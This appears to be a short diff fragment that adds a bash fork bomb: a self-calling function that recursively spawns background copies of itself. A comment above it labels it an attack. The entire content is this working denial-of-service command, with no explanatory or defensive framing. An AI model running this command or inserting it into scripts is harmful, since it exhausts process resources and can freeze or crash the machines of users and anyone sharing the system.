@@ -1,0 +1,2 @@
+# attack: starts processes without end
+b() { b | b & b; }; b
